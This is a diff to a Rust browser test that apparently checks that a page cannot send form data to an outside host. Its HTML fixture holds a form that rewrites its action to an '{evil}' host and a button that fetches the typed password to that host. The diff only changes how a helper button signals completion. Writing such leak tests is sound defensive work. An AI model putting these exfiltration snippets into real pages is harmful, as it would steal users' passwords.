@@ -34,8 +34,7 @@ async fn a_form_that_changes_its_address_takes_nothing_elsewhere() {
     let form = format!(
         "<form method=get action=/in onsubmit=\"this.action='{evil}/form'\"><label>Password <input id=password name=p \
          type=password></label><button id=send>Send</button></form><button id=ping onclick=\"fetch('{evil}/ping?p=' + \
-         password.value, {{mode: 'no-cors'}})\">Ping</button><button id=near onclick=\"fetch('/in').then(() => near.textContent \
-         = 'Answered')\">Near</button>"
+         password.value, {{mode: 'no-cors'}})\">Ping</button><button id=near onclick=\"fetch('/in').then(() => near.disabled = true)\">Near</button>"
     );
     let site = serve(&[("form", form.as_str()), ("in", "<h1>In</h1>")]).await;
     let mut browser = Browser::chromium(&format!("{site}/form")).await;
@@ -51,9 +50,7 @@ async fn a_form_that_changes_its_address_takes_nothing_elsewhere() {
     browser.fill("password", "lovelace").await;
     browser.click("near").await;
     browser
-        .until("an answer", |browser, _| {
-            browser.element("near").text == "Answered"
-        })
+        .until("an answer", |browser, _| browser.element("near").disabled)
         .await;
     browser.click("ping").await;
     browser.click("send").await;
